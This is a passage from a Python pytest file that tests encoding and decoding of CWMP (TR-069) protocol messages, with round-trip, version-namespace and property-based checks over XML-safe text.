    assert {shape.struct for shape in SHAPES} == set(typing.get_args(AnyMessage)) - by_hand


def test_the_samples_leave_no_field_at_its_default_in_some_sample_of_each_type() -> None:
    for cls in typing.get_args(AnyMessage):
        samples = [m for m in SAMPLE_MESSAGES if type(m) is cls]
        for field in msgspec.structs.fields(cls):
            if field.default is not msgspec.NODEFAULT:
                changed = [m for m in samples if getattr(m, field.name) != field.default]
                assert changed, f"{cls.__name__}.{field.name} is never set"


@pytest.mark.parametrize("version", list(CwmpVersion))
@pytest.mark.parametrize("message", SAMPLE_MESSAGES, ids=lambda m: type(m).__name__)
def test_decode_inverts_encode_for_every_message_and_version(
    message: AnyMessage, version: CwmpVersion
) -> None:
    sent = Envelope(
        message,
        version,
        id="acs-1",
        hold_requests=True,
        session_timeout=30,
        supported_versions="1.0,1.1,1.2,1.3,1.4",
        use_version="1.4",
    )
    received = decode(encode(sent))
    # 1.3 and 1.4 travel as cwmp-1-2, so they come back as 1.2; everything else is identical.
    wire_version = CwmpVersion.V1_2 if version in (CwmpVersion.V1_3, CwmpVersion.V1_4) else version
    assert received == msgspec.structs.replace(sent, version=wire_version)
    if version not in (CwmpVersion.V1_3, CwmpVersion.V1_4):
        assert received == sent


@pytest.mark.parametrize("message", SAMPLE_MESSAGES, ids=lambda m: type(m).__name__)
def test_round_trip_without_header_keeps_id_none(message: AnyMessage) -> None:
    sent = Envelope(message)
    assert decode(encode(sent)) == sent


def test_cwmp_1_3_and_1_4_namespaces_sent_by_a_cpe_decode_to_their_version() -> None:
    for version in (CwmpVersion.V1_3, CwmpVersion.V1_4):
        data = encode(Envelope(RebootResponse(), CwmpVersion.V1_2)).replace(
            CwmpVersion.V1_2.namespace.encode(), version.namespace.encode()
        )
        assert decode(data).version is version


XML_TEXT = st.text(
    alphabet=st.characters(
        codec="utf-8",
        exclude_categories=("Cs",),
        exclude_characters="\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13"
        "\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\ufffe\uffff",
    )
)


@given(value=XML_TEXT, key=XML_TEXT, id_=XML_TEXT)
def test_any_xml_text_in_values_keys_and_ids_survives_a_round_trip(
    value: str, key: str, id_: str
) -> None:
    sent = Envelope(SetParameterValues((ParameterValue("A.B", value),), key), id=id_)
    assert decode(encode(sent)) == sent
